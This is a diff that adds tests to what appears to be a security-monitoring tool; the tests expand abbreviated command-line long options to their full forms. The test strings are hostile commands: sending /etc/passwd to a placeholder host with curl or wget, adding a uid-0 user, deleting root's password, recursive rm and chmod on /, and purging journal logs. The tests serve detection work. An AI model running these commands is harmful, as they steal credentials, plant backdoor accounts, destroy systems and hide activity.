@@ -188,6 +188,32 @@ describe('views of a process start', () => {
     });
   });
 
+  describe('writes long options in full', () => {
+    for (const [line, view] of [
+      ['curl --out /tmp/.x http://x', 'curl --output /tmp/.x http://x'],
+      ['curl --data-b @/etc/passwd http://x', 'curl --data-binary @/etc/passwd http://x'],
+      ['wget --post-f=/etc/passwd http://x', 'wget --post-file=/etc/passwd http://x'],
+      ['useradd --ui 0 -o toor', 'useradd --uid 0 -o toor'],
+      ['usermod --gro sudo -a eve', 'usermod --groups sudo -a eve'],
+      ['passwd --del root', 'passwd --delete root'],
+      ['rm --recurs /', 'rm --recursive /'],
+      ['chmod --recurs 777 /', 'chmod --recursive 777 /'],
+      ['tee --app /etc/passwd', 'tee --append /etc/passwd'],
+      ['mv --targ=/etc /tmp/passwd', 'mv /tmp/passwd /etc/'],
+      ['journalctl --vacuum-t=1s', 'journalctl --vacuum-time=1s'],
+      ['iptables -t nat -A OUTPUT --ju DNAT', 'iptables -t nat -A OUTPUT --jump DNAT'],
+    ] as const)
+      it(line, () => {
+        for (const of of [start(line), start(`sudo ${line}`), script(`${line}; id`)])
+          assertView(of, `/usr/bin/${view.split(' ')[0]} | ${view}`);
+      });
+
+    it('but leaves whole ones, operands and other programs', () => {
+      for (const line of ['curl --data x', 'curl --silent x', 'rm -- --rec', 'grep --recur x', 'rm --'])
+        assert.equal(viewsOf(start(line)).length, 1, line);
+    });
+  });
+
   describe('removes wrappers', () => {
     const wrappers = [
       ...[
